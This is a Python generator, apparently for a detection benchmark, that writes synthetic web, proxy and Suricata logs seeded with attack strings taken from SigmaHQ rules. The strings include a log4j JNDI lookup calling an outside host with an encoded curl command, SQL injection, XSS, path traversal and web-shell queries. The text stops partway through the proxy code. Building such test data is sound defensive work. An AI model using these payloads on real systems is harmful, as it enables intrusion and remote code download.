#!/usr/bin/env python3
"""Writes realistic web-server, proxy or Suricata EVE JSON lines for the
matcher benchmark, at any size: the network counterpart of gen-events.py.

  bench/gen-net.py --kind web|proxy|eve --events N [--malicious P] [--seed S] > events.jsonl
  bench/gen-net.py --kind ... --mb M ...              (stop after about M megabytes)

web: a web server's access log in the W3C field names SigmaHQ's webserver
rules use (date, c-ip, cs-method, cs-uri-stem, cs-uri-query, sc-status,
cs-user-agent, cs-referer, cs-host...), the layout of
examples/events/web_access.jsonl, with a few error-log records (date,
server, level, pid, message) for rules/web/product/.  Visitors keep their
address and browser, load a page and then its assets with the page as
referer (304 when they come back), API clients call JSON endpoints, search
engines crawl, a load balancer checks health, scanners get 404s.

proxy: a forward proxy with TLS inspection, in the names of SigmaHQ's
proxy rules (c-uri, c-uri-extension, c-uri-query, cs-host, cs-method,
c-useragent, cs-referrer, cs-cookie, r-dns, sc-status, src_ip, dst_ip...),
the layout of examples/events/proxy_flood.jsonl.  Workstations keep their
user, browser and the agents that run on them (Teams, OneDrive, Office,
Windows Update, BITS, CryptoAPI), each going to the sites it usually goes
to, with the addresses those sites resolve to.

eve: Suricata 7 EVE JSON (nested), the layout of
examples/events/eve_flood.jsonl: internal clients resolve a name (dns query
and answer), connect to its address (tls with sni, ja3 and certificate, or
http with host, url, user agent and status), and the flow closes (flow
record with its counters); some internal flows (SMB, LDAP, Kerberos, NTP),
and now and then a benign alert.

Most events (99% by default) take these ordinary values; the others
(--malicious) take values from the detection strings of the SigmaHQ rules
that are about such logs, read from the rule files themselves (--rules):
for web, rules/web/webserver_generic and rules/web/product; for proxy,
rules/web/proxy_generic; for eve, the dns and Zeek rules' names (dns
rrname, tls sni), the proxy rules' user agents and URLs, and the Linux
keyword rules' shell strings in alert payloads and user agents.  Each
malicious event is made for one rule (or one selection of it) and keeps the
rest of its event ordinary.

Deterministic for a given seed.  Needs ../shared/corpus/sigmahq/rules
(or --rules DIR).
"""
import argparse
import functools
import hashlib
import heapq
import ipaddress
import json
import os
import random
import sys
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_RULES = os.path.join(HERE, "..", "..", "shared", "corpus", "sigmahq", "rules")


# ---------------------------------------------------------------------------
# Reading the rules' detection strings
# ---------------------------------------------------------------------------

def _scalar(text):
    """A YAML scalar as SigmaHQ writes them: 'single' ('' for a quote),
    "double" (backslash escapes) or plain (up to a comment)."""
    text = text.strip()
    if text.startswith("'"):
        out, i = [], 1
        while i < len(text):
            if text[i] == "'":
                if text[i + 1:i + 2] == "'":
                    out.append("'")
                    i += 2
                    continue
                break
            out.append(text[i])
            i += 1
        return "".join(out)
    if text.startswith('"'):
        end = 1
        while end < len(text) and text[end] != '"':
            end += 2 if text[end] == "\\" else 1
        return json.loads(text[:end + 1])
    return text.split(" #", 1)[0].strip()


def _key(text):
    """The key of a `key: value` line, or None."""
    if text.startswith(("'", '"')):
        q = text[0]
        end = text.find(q, 1)
        if end > 0 and text[end + 1:end + 2] == ":":
            return text[1:end], text[end + 2:]
        return None
    head, sep, rest = text.partition(":")
    if sep and (not rest or rest[0] == " ") and " " not in head and head:
        return head, rest
    return None


@functools.lru_cache(maxsize=None)
def detection(rules_dir, name):
    """The detection strings of the rule file name (under rules_dir), as
    a list of (search, field, modifiers, value); field is None for
    keywords.  A small reader for the block YAML SigmaHQ's rules are
    written in (yamllint-checked: four-space indents, one item a line)."""
    path = os.path.join(rules_dir, name)
    with open(path, encoding="utf-8") as f:
        lines = f.read().split("\n")
    out = []
    inside = False
    search = field = None
    field_indent = 0
    for line in lines:
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        indent = len(line) - len(line.lstrip(" "))
        if indent == 0:
            inside = line.startswith("detection:")
            continue
        if not inside:
            continue
        if indent == 4:
            kv = _key(stripped)
            search, field = (kv[0], None) if kv else (None, None)
            continue
        if stripped.startswith("- "):
            item = stripped[2:]
            kv = _key(item)
            if kv and kv[1].strip():  # a map in a list: `- field|mod: value`
                f_, mods = (kv[0].split("|", 1) + [""])[:2]
                out.append((search, f_ or None, mods, _scalar(kv[1])))
            elif field is not None and indent > field_indent:
                f_, mods = (field.split("|", 1) + [""])[:2]
                out.append((search, f_ or None, mods, _scalar(item)))
            else:
                out.append((search, None, "", _scalar(item)))
            continue
        kv = _key(stripped)
        if kv:
            field, field_indent = kv[0], indent
            if kv[1].strip():
                f_, mods = (field.split("|", 1) + [""])[:2]
                out.append((search, f_ or None, mods, _scalar(kv[1])))
    if not out:
        raise SystemExit(f"gen-net: no detection strings read from {path}")
    return out


def literal(value, star=""):
    """A string a Sigma value matches: wildcards filled (`*` with star, `?`
    with a letter), escapes undone."""
    out, i = [], 0
    while i < len(value):
        c = value[i]
        if c == "\\" and i + 1 < len(value) and value[i + 1] in "*?\\":
            out.append(value[i + 1])
            i += 2
            continue
        out.append(star if c == "*" else "x" if c == "?" else c)
        i += 1
    return "".join(out)


class Rules:
    """The detection strings of the rules the malicious events are made
    from."""

    def __init__(self, rules_dir):
        self.dir = rules_dir

    def values(self, name, field=None, search=None, mods=None):
        """The values of field (None: the keywords) in the rule file name,
        filled in (literal()): those of one search, or of every search but
        the filters; optionally of one modifier."""
        got = [literal(v) for s, f, m, v in detection(self.dir, name)
               if f == field and (s == search if search else not s or s.startswith(("selection", "keywords")))
               and (mods is None or m.split("|")[0] == mods)]
        if not got:
            raise SystemExit(f"gen-net: no values of {field or 'keywords'} in {name}")
        return got

    def pick(self, rnd, name, field=None, search=None, mods=None):
        return rnd.choice(self.values(name, field, search, mods))


# ---------------------------------------------------------------------------
# Shared helpers
# ---------------------------------------------------------------------------

def public_address(rnd):
    """A plausible public IPv4 address (none private, reserved or
    multicast)."""
    while True:
        a = rnd.choice((24, 31, 37, 46, 62, 66, 71, 73, 77, 78, 81, 82, 84, 86, 88, 89, 90, 91, 92, 93, 94, 95,
                        98, 99, 104, 107, 108, 109, 151, 176, 178, 185, 188, 194, 195, 212, 213, 217))
        addr = "%d.%d.%d.%d" % (a, rnd.randint(0, 255), rnd.randint(0, 255), rnd.randint(1, 254))
        if ipaddress.ip_address(addr).is_global:
            return addr


def host_address(name):
    """The address a public host name resolves to: made up, but the same
    for the same name."""
    d = hashlib.sha256(name.encode()).digest()
    return "%d.%d.%d.%d" % ((13, 20, 23, 34, 52, 104, 140, 142, 151, 172, 185, 199)[d[0] % 12], d[1], d[2],
                            1 + d[3] % 254)


def iso(t, digits=3):
    if digits == 6:
        return t.strftime("%Y-%m-%dT%H:%M:%S.%f")
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


def hexid(rnd, n):
    return "%0*x" % (n, rnd.getrandbits(4 * n))


BROWSERS = [  # (user agent, share)
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
     "Safari/537.36", 30),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
     "Safari/537.36 Edg/124.0.0.0", 14),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", 6),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
     "Safari/605.1.15", 8),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
     "Safari/537.36", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.4.1 Mobile/15E148 Safari/604.1", 16),
    ("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 "
     "Mobile Safari/537.36", 14),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", 2),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", 1),
]
DESKTOP_BROWSERS = [b for b in BROWSERS if "Windows NT" in b[0]]


def weighted(rnd, pairs):
    return rnd.choices([p[0] for p in pairs], [p[1] for p in pairs])[0]


# ---------------------------------------------------------------------------
# web: a web server's access and error logs
# ---------------------------------------------------------------------------

SERVER_IP = "10.20.0.5"
ASSETS = [  # (stem, content size)
    ("/css/site.min.css", 48211), ("/js/app.min.js", 183344), ("/js/vendor.min.js", 402118),
    ("/images/logo.svg", 5120), ("/images/hero-1600.webp", 210944), ("/fonts/inter-var.woff2", 97312),
    ("/favicon.ico", 15086),
]
PRODUCTS = ["espresso-machine-ek42", "grinder-c3", "milk-frother-mf2", "tamper-58mm", "scale-s1", "kettle-gooseneck"]
SEARCHES = ["espresso", "grinder", "descaling", "gift card", "milk frother", "filter papers", "warranty"]
PAGES = [  # (host, stem, query maker, share)
    ("www.example.com", "/", None, 20),
    ("www.example.com", "/about/", None, 3),
    ("www.example.com", "/blog/", lambda r: "page=%d" % r.randint(2, 6) if r.random() < 0.3 else "-", 5),
    ("www.example.com", "/blog/2026/04/spring-release.html", None, 4),
    ("www.example.com", "/blog/2026/03/brewing-guide.html", lambda r: "utm_source=newsletter&utm_medium=email"
     if r.random() < 0.4 else "-", 4),
    ("www.example.com", "/contact/", None, 2),
    ("shop.example.com", "/", None, 10),
    ("shop.example.com", "/products/", lambda r: "category=%s&sort=%s" % (r.choice(["machines", "accessories",
                                                                                    "coffee"]),
                                                                           r.choice(["price", "popular", "new"])),
     8),
    ("shop.example.com", "/product.aspx", lambda r: "sku=%s" % r.choice(PRODUCTS), 14),
    ("shop.example.com", "/search", lambda r: "q=" + r.choice(SEARCHES).replace(" ", "+"), 6),
    ("shop.example.com", "/cart", None, 4),
    ("shop.example.com", "/account/login", lambda r: "returnUrl=%2Fcart" if r.random() < 0.5 else "-", 2),
]
API_CALLS = [  # (method, stem, query maker, status, share)
    ("GET", "/v1/products", lambda r: "limit=50&offset=%d" % (50 * r.randint(0, 8)), 200, 30),
    ("GET", "/v1/products/{sku}", None, 200, 25),
    ("GET", "/v1/stock", lambda r: "sku=%s" % r.choice(PRODUCTS), 200, 15),
    ("POST", "/v1/orders", None, 201, 6),
    ("GET", "/v1/orders/{order}", None, 200, 10),
    ("PUT", "/v1/cart/{order}/items", None, 200, 6),
    ("POST", "/v1/auth/token", None, 200, 5),
    ("GET", "/v1/orders/{order}", None, 404, 2),
    ("POST", "/v1/auth/token", None, 401, 1),
]
API_AGENTS = ["okhttp/4.12.0", "ExampleShop/3.8.1 (iPhone; iOS 17.4.1; Scale/3.00)", "python-requests/2.31.0",
              "Go-http-client/2.0", "axios/1.6.8"]
CRAWLERS = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 "
            "Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"]
CRAWLED = ["/robots.txt", "/sitemap.xml", "/", "/blog/", "/blog/2026/04/spring-release.html", "/products/",
           "/product.aspx"]
PROBES = ["/wp-login.php", "/xmlrpc.php", "/.env", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/"
          "eval-stdin.php", "/owa/auth/logon.aspx", "/boaform/admin/formLogin", "/cgi-bin/luci"]
REFERRERS = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/",
             "https://www.facebook.com/"]
ERROR_MESSAGES = [  # (server, level, message)
    ("apache", "error", "[client {ip}:{port}] AH01630: client denied by server configuration: "
                        "/var/www/html/server-status"),
    ("apache", "warn", "AH01909: shop.example.com:443:0 server certificate does NOT include an ID which matches the "
                       "server name"),
    ("apache", "notice", "AH00094: Command line: '/usr/sbin/apache2'"),
    ("apache", "error", "[client {ip}:{port}] AH01276: Cannot serve directory /var/www/html/images/: No matching "
                        "DirectoryIndex (index.html) found, and server-generated directory index forbidden by "
                        "Options directive"),
    ("apache", "error", "[client {ip}:{port}] AH00128: File does not exist: /var/www/html/wp-login.php"),
    ("apache", "notice", "AH00489: Apache/2.4.58 (Ubuntu) OpenSSL/3.0.13 configured -- resuming normal operations"),
    ("nginx", "error", "*{conn} open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), "
                       "client: {ip}, server: www.example.com, request: \"GET /favicon.ico HTTP/1.1\""),
    ("nginx", "warn", "*{conn} an upstream response is buffered to a temporary file "
                      "/var/cache/nginx/proxy_temp/3/07/0000000073 while reading upstream, client: {ip}, "
                      "server: shop.example.com"),
    ("nginx", "error", "*{conn} upstream timed out (110: Connection timed out) while reading response header from "
                       "upstream, client: {ip}, server: api.example.com, upstream: \"http://127.0.0.1:8080/v1/stock\""),
    ("nginx", "notice", "signal process started"),
]


class Web:
    """Visitors of www., shop. and api.example.com, on one server."""

    def __init__(self, rnd, rules):
        self.rnd, self.rules = rnd, rules
        self.visitors = [(public_address(rnd), weighted(rnd, BROWSERS)) for _ in range(4000)]
        self.api_clients = [(public_address(rnd), rnd.choice(API_AGENTS)) for _ in range(300)]
        self.crawlers = [(public_address(rnd), ua) for ua in CRAWLERS for _ in range(3)]
        self.scanners = [public_address(rnd) for _ in range(40)]
        self.seen = set()  # (visitor, host): assets come back as 304

    def access(self, t, ip, method, host, stem, query, status, agent, referer, size, user="-"):
        r = self.rnd
        return {"date": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "s-ip": SERVER_IP,
                "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": query or "-", "s-port": 443,
                "cs-username": user, "c-ip": ip, "cs-version": "HTTP/2" if "Mozilla" in agent else "HTTP/1.1",
                "cs-user-agent": agent, "cs-referer": referer or "-", "cs-host": host, "sc-status": status,
                "sc-substatus": 0, "sc-win32-status": 0,
                "sc-bytes": size if status not in (304, 204) else 0, "cs-bytes": r.randint(380, 1400),
                "time-taken": r.randint(1, 40) if status == 304 else r.randint(3, 900)}

    def error(self, t, server, level, message):
        r = self.rnd
        return {"date": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "s-ip": SERVER_IP, "server": server,
                "log": "error", "level": level, "pid": r.randint(900, 32000),
                "message": message.format(ip=rnd_visitor(r, self.visitors)[0], port=r.randint(1024, 65535),
                                          conn=r.randint(1000, 9999999))}

    def benign(self, t):
        """A burst of ordinary events at t, one after another."""
        r = self.rnd
        kind = r.choices(("page", "api", "crawler", "health", "probe", "error"), (62, 22, 6, 6, 2, 2))[0]
        if kind == "error":
            return [self.error(t, *r.choice(ERROR_MESSAGES))]
        if kind == "health":
            return [self.access(t, "10.20.0.2", "GET", "www.example.com", "/healthz", None, 200,
                                "ELB-HealthChecker/2.0", None, 2)]
        if kind == "probe":
            return [self.access(t, r.choice(self.scanners), "GET", SERVER_IP, r.choice(PROBES), None, 404,
                                weighted(r, BROWSERS), None, 1245)]
        if kind == "crawler":
            ip, ua = r.choice(self.crawlers)
            stem = r.choice(CRAWLED)
            query = "sku=" + r.choice(PRODUCTS) if stem == "/product.aspx" else None
            host = "shop.example.com" if stem in ("/products/", "/product.aspx") else "www.example.com"
            return [self.access(t, ip, "GET", host, stem, query, r.choice((200, 200, 200, 301, 304)), ua, None,
                                r.randint(2000, 60000))]
        if kind == "api":
            ip, ua = r.choice(self.api_clients)
            method, stem, query, status, _ = weighted_row(r, API_CALLS)
            stem = stem.format(sku=r.choice(PRODUCTS), order="ord_" + hexid(r, 12))
            user = "svc-mobile" if "ExampleShop" in ua else "-"
            return [self.access(t, ip, method, "api.example.com", stem, query(r) if query else None, status, ua,
                                None, r.randint(90, 24000), user)]
        ip, ua = rnd_visitor(r, self.visitors)
        host, stem, query, _ = weighted_row(r, PAGES)
        q = query(r) if query else None
        back = (ip, host) in self.seen
        self.seen.add((ip, host))
        referer = (f"https://{host}/" if back and stem != "/" else r.choice(REFERRERS) if r.random() < 0.5
                   else None)
        out = [self.access(t, ip, "GET", host, stem, q, 200, ua, referer, r.randint(8000, 90000))]
        page = f"https://{host}{stem}" + (f"?{q}" if q and q != "-" else "")
        for stem, size in r.sample(ASSETS, r.randint(0 if back else 3, len(ASSETS))):
            t += timedelta(milliseconds=r.randint(5, 120))
            out.append(self.access(t, ip, "GET", host, stem, None, 304 if back else 200, ua, page, size))
        self.now = t
        return out

    def malicious(self, t):
        """One event made for a rule of rules/web/webserver_generic or
        rules/web/product."""
        r, R = self.rnd, self.rules
        ip, ua = rnd_visitor(r, self.visitors)
        scanner = r.choice(self.scanners)
        host = r.choice(("www.example.com", "shop.example.com"))
        g = "webserver_generic/"
        which = r.randrange(17)
        if which == 0:  # F5 iControl REST command execution
            q = R.pick(r, "web/" + g + "web_f5_tm_utility_bash_api_request.yml", "cs-uri-query")
            return self.access(t, scanner, "POST", host, "/mgmt/tm/util/bash", q, 404, "python-requests/2.28.1",
                               None, 1245)
        if which == 1:  # IIS tilde short-name scan
            name = "web/" + g + "web_iis_tilt_shortname_scan.yml"
            q = "/" + r.choice(("ASPNET", "WEBCON", "BACKUP", "GLOBAL"))
            q += R.pick(r, name, "cs-uri-query", mods="contains")
            q += "*/" + R.pick(r, name, "cs-uri-query", mods="endswith")
            return self.access(t, scanner, r.choice(R.values(name, "cs-method")), host, "/", q,
                               int(r.choice(R.values(name, "sc-status"))), ua, None, 1245)
        if which == 2:  # Java payloads (OGNL, EL)
            kw = R.pick(r, "web/" + g + "web_java_payload_in_access_logs.yml")
            return self.access(t, scanner, "GET", host, "/index.action", "redirect:" + kw + "java.lang.Runtime}",
                               400, ua, None, 1245)
        if which == 3:  # JNDI exploit kit paths in a log4j lookup
            kw = R.pick(r, "web/" + g + "web_jndi_exploit.yml")
            return self.access(t, scanner, "GET", host, "/", "x=${jndi:ldap://" + public_address(r) + ":1389" + kw
                               + "Y3VybCAxMC4wLjAuMS9h}", 200, "${jndi:ldap://" + public_address(r) + ":1389/a}",
                               None, 8600)
        if which == 4:  # path traversal
            kw = R.pick(r, "web/" + g + "web_path_traversal_exploitation_attempt.yml", "cs-uri-query")
            return self.access(t, scanner, "GET", host, "/download.php", "file=" + kw + "passwd", 404, ua, None, 1245)
        if which == 5:  # source code enumeration
            kw = R.pick(r, "web/" + g + "web_source_code_enumeration.yml")
            return self.access(t, scanner, "GET", host, "/" + kw + r.choice(("config", "HEAD", "index")), None, 404,
                               ua, None, 1245)
        if which == 6:  # SQL injection
            kw = R.pick(r, "web/" + g + "web_sql_injection_in_access_logs.yml")
            q = "sku" + kw if kw.startswith("=") else "sku=ek42%27+" + kw
            return self.access(t, scanner, "GET", "shop.example.com", "/product.aspx", q, r.choice((200, 500)),
                               ua, None, 9000)
        if which == 7:  # server-side template injection
            kw = R.pick(r, "web/" + g + "web_ssti_in_access_logs.yml")
            q = "q" + kw + "7*7}}" if kw.startswith("=") else "q=" + kw
            return self.access(t, scanner, "GET", "shop.example.com", "/search", q, 200, ua, None, 9000)
        if which == 8:  # scanner user agents
            kw = R.pick(r, "web/" + g + "web_susp_useragents.yml", "cs-user-agent")
            agent = kw + ("1.8.3" if kw.endswith(("/", "v")) else " (scan)")
            return self.access(t, scanner, "GET", host, r.choice(PROBES), None, 404, agent, None, 1245)
        if which == 9:  # Windows paths in the query
            kw = R.pick(r, "web/" + g + "web_susp_windows_path_uri.yml", "cs-uri-query")
            return self.access(t, scanner, "GET", host, "/download.php", "file" + kw + "/win.ini", 200, ua, None, 92)
        if which == 10:  # reGeorg tunnel: POST without referer nor user agent
            kw = R.pick(r, "web/" + g + "web_webshell_regeorg.yml", "cs-uri-query")
            e = self.access(t, scanner, "POST", host, "/images/tunnel.aspx", kw + "&target=10.20.0.9&port=3389",
                            200, "-", None, 120)
            del e["cs-referer"], e["cs-user-agent"]
            return e
        if which == 11:  # OS commands in a web shell's query
            kw = R.pick(r, "web/" + g + "web_win_webshells_in_access_logs.yml")
            return self.access(t, scanner, "GET", host, "/images/up.aspx", "c" + kw + "all", 200, ua, None, 600)
        if which == 12:  # cross-site scripting
            kw = R.pick(r, "web/" + g + "web_xss_in_access_logs.yml")
            q = "q" + kw + "alert(1)" if kw.startswith("=") else "q=" + kw + "alert(1)"
            return self.access(t, scanner, "GET", "shop.example.com", "/search", q, 200, ua, None, 9000)
        if which in (13, 14):  # Apache segmentation fault
            kw = R.pick(r, "web/product/apache/web_apache_segfault.yml")
            return self.error(t, "apache", "notice", "AH00052: child pid %d " % r.randint(900, 32000) + kw + " (11)")
        if which == 15:
            kw = R.pick(r, "web/product/apache/web_apache_threading_error.yml")
            return self.error(t, "apache", "error", "httpd: tpp.c:82: " + kw + "' failed.")
        kw = R.pick(r, "web/product/nginx/web_nginx_core_dump.yml")
        return self.error(t, "nginx", "alert", "worker process %d " % r.randint(900, 32000) + kw)


def rnd_visitor(r, visitors):
    # a few visitors come often, most rarely (a long tail)
    return visitors[min(int(r.paretovariate(1.2)) - 1, len(visitors) - 1) if r.random() < 0.5
                    else r.randrange(len(visitors))]


def weighted_row(r, rows):
    return r.choices(rows, [row[-1] for row in rows])[0]


# ---------------------------------------------------------------------------
# proxy: a forward proxy's log
# ---------------------------------------------------------------------------

SITES = [  # (host, [(path, query maker or None, content type)], cookie name or None, share)
    ("www.google.com", [("/search", lambda r: "q=%s&hl=en" % r.choice(["weather+berlin", "python+argparse",
                                                                      "vpn+setup+corp", "excel+pivot+table",
                                                                      "flight+status+lh400"]), "text/html"),
                        ("/complete/search", lambda r: "client=chrome-omni&q=%s" % r.choice("abcdefgh"),
                         "application/json")], "NID", 14),
    ("outlook.office365.com", [("/owa/", None, "text/html"), ("/owa/service.svc", lambda r: "action=GetItem&app=Mail",
                                                              "application/json"),
                               ("/mapi/emsmdb/", lambda r: "MailboxId=%s@corp.example" % hexid(r, 8),
                                "application/mapi-http")], None, 14),
    ("teams.microsoft.com", [("/api/chatsvc/emea/v1/users/ME/conversations", lambda r: "view=msnp24Equivalent",
                              "application/json"), ("/v2/", None, "text/html")], None, 10),
    ("corp-my.sharepoint.com", [("/personal/{user}_corp_example/Documents/budget-2026.xlsx", None,
                                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
                                ("/_api/web/lists", None, "application/json")], "FedAuth", 6),
    ("github.com", [("/corp-example/platform/pull/%d", None, "text/html"),
                    ("/corp-example/platform/archive/refs/heads/main.zip", None, "application/zip")], "_gh_sess", 4),
    ("api.github.com", [("/repos/corp-example/platform/pulls", lambda r: "state=open&per_page=50",
                         "application/json")], None, 2),
    ("cdn.jsdelivr.net", [("/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js", None, "application/javascript"),
                          ("/npm/chart.js@4.4.2/dist/chart.umd.min.js", None, "application/javascript")], None, 3),
    ("fonts.gstatic.com", [("/s/roboto/v32/KFOmCnqEu92Fr1Mu4mxK.woff2", None, "font/woff2")], None, 3),
    ("www.bbc.co.uk", [("/news", None, "text/html"), ("/news/business-68824413", None, "text/html")], None, 4),
    ("www.reuters.com", [("/markets/", None, "text/html"), ("/pf/api/v3/content/fetch/articles-by-section-alias",
                                                            lambda r: "query=%7B%22size%22%3A20%7D&d=190",
                                                            "application/json")], None, 3),
    ("slack.com", [("/api/conversations.history", lambda r: "channel=C0%s" % hexid(r, 8).upper(),
                    "application/json")], "d", 4),
    ("zoom.us", [("/j/%d", lambda r: "pwd=%s" % hexid(r, 20), "text/html")], None, 2),
    ("www.linkedin.com", [("/feed/", None, "text/html")], "li_at", 2),
    ("download.mozilla.org", [("/", lambda r: "product=firefox-latest-ssl&os=win64&lang=en-US",
                               "application/octet-stream")], None, 0.3),
    ("dl.google.com", [("/tag/s/appguid%3D%7B8A69D345-D564-463C-AFF1-A69D9E530F96%7D/update2/installers/"
                        "ChromeSetup.exe", None, "application/octet-stream")], None, 0.3),
    ("www.7-zip.org", [("/a/7z2404-x64.exe", None, "application/octet-stream")], None, 0.2),
    ("docs.python.org", [("/3/library/argparse.html", None, "text/html")], None, 1),
    ("stackoverflow.com", [("/questions/%d/how-to-parse-json-lines", None, "text/html")], "prov", 2),
]
AGENTS = [  # (user agent, hosts it goes to, method, content type, share)
    ("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
     [("outlook.office365.com", "/autodiscover/autodiscover.json/v1.0/{user}@corp.example",
       "Protocol=AutodiscoverV1")], "GET", "application/json", 6),
    ("Microsoft SkyDriveSync 24.070.0407.0003 ship; Windows NT 10.0 (22631)",
     [("corp-my.sharepoint.com", "/personal/{user}_corp_example/_api/SP.Sync/GetChanges", None),
      ("g.live.com", "/1rewlive5skydrive/ODSUProduction", None)], "POST", "application/json", 5),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36 Teams/24033.811.2738.2546/49",
     [("teams.microsoft.com", "/api/csa/emea/api/v1/teams/users/me", "isPrefetch=false&enableMembershipSummary=true"),
      ("presence.teams.microsoft.com", "/v1/me/endpoints/", None)], "GET", "application/json", 8),
    ("Microsoft-Delivery-Optimization/10.0",
     [("7.tlu.dl.delivery.mp.microsoft.com", "/filestreamingservice/files/%s" % "2f5c6f51-04a6-4c3b-9e3c-0b6f7e2a1d09",
       "P1=1713600000&P2=404&P3=2&P4=Xk2%2bZ")], "GET", "application/octet-stream", 3),
    ("Microsoft BITS/7.8",
     [("au.download.windowsupdate.com", "/c/msdownload/update/software/defu/2026/04/am_delta_patch_1.409.412.0_"
                                        "3b4c5d6e7f.exe", None),
      ("ctldl.windowsupdate.com", "/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab",
       "6d2a1f0b3c4e5a69")],
     "GET", "application/octet-stream", 2),
    ("Microsoft-CryptoAPI/10.0",
     [("ocsp.digicert.com", "/MFEwTzBNMEswSTAJBgUrDgMCGgUABBTfqhLjKLEJQZPin0KCzkdAQpVYowQUsT7DaQP4v0cB1JgmGggC72NkK8MC"
                            "EAx5qUSwjBGVIJJhX%2BJrHYM%3D", None),
      ("crl3.digicert.com", "/DigiCertGlobalG2TLSRSASHA2562020CA1-1.crl", None)], "GET",
     "application/ocsp-response", 3),
    ("Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.71",
     [("fe3cr.delivery.mp.microsoft.com", "/ClientWebService/client.asmx", None)], "POST", "application/soap+xml", 1),
]
RESPONSE_SIZES = [  # (content type prefix, size range)
    ("application/ocsp", (400, 2200)), ("application/json", (200, 24000)), ("text/html", (18000, 250000)),
    ("application/javascript", (20000, 400000)), ("text/css", (4000, 90000)), ("image/", (900, 80000)),
    ("font/", (20000, 120000)), ("application/octet-stream", (300000, 90000000)), ("", (500, 60000))]


class Proxy:
    """Workstations of one office behind a forward proxy."""

    def __init__(self, rnd, rules):
        self.rnd, self.rules = rnd, rules
        names = ["adam", "anna", "ben", "carla", "chen", "david", "elena", "farid", "grace", "hugo", "ines", "jonas",
                 "kim", "lena", "marco", "nadia", "omar", "paula", "quinn", "rosa", "sven", "tara", "umar", "vera"]
        self.clients = []
        for i in range(600):
            user = "%s.%s%d" % (rnd.choice(names), rnd.choice("abcdefghjklmnprstw"), i % 7)
            self.clients.append(("10.30.%d.%d" % (i // 200, 10 + i % 200), user, weighted(rnd, DESKTOP_BROWSERS)))

    def request(self, t, client, method, url, agent, status, ctype, referrer=None, cookie=None, size=None):
        r = self.rnd
        ip, user, _ = client
        scheme, rest = url.split("://", 1)
        host, _, pathq = rest.partition("/")
        path, _, query = ("/" + pathq).partition("?")
        last = path.rsplit("/", 1)[-1]
        ext = last.rsplit(".", 1)[-1].lower() if "." in last else "-"
        addr = host_address(host)
        return {"timestamp": iso(t), "src_ip": ip, "cs-username": user, "cs-method": method, "c-uri": url,
                "c-uri-scheme": scheme, "cs-host": host, "c-uri-path": path, "c-uri-extension": ext,
                "c-uri-query": query or "-", "c-useragent": agent, "cs-referrer": referrer or "-",
                "cs-cookie": cookie or "-", "sc-status": status, "rs-content-type": ctype,
                "r-dns": host, "dst_ip": addr, "dst_port": 443 if scheme == "https" else 80,
                "sc-bytes": size if size is not None else r.randint(200, 900) if status != 200 else
                r.randint(*next(v for k, v in RESPONSE_SIZES if ctype.startswith(k))),
                "cs-bytes": r.randint(300, 2400), "s-action": "TCP_DENIED" if status == 403 else "TCP_MISS"}

    def benign(self, t):
        r = self.rnd
        client = r.choice(self.clients)
        user = client[1]
        if r.random() < 0.28:
            agent, targets, method, ctype, _ = weighted_row(r, AGENTS)
            host, path, query = r.choice(targets)
            url = f"https://{host}{path.format(user=user)}" + (f"?{query}" if query else "")
            if agent.startswith(("Microsoft BITS", "Microsoft-CryptoAPI")):
                url = "http" + url[5:]
            return [self.request(t, client, method, url, agent, 200, ctype)]
        host, pages, cookie, _ = weighted_row(r, SITES)
        path, query, ctype = r.choice(pages)
        path = path.format(user=user)
        if "%d" in path:
            path %= r.randint(1000, 78000000)
        url = f"https://{host}{path}" + (f"?{query(r)}" if query else "")
        ck = f"{cookie}={hexid(r, 24)}" if cookie else None
        status = r.choices((200, 304, 302, 404, 403), (86, 6, 5, 2, 1))[0]
        out = [self.request(t, client, "GET", url, client[2], status, ctype,
                            r.choice(("https://www.google.com/", None, None)), ck)]
        if ctype == "text/html" and status == 200:  # the page's resources
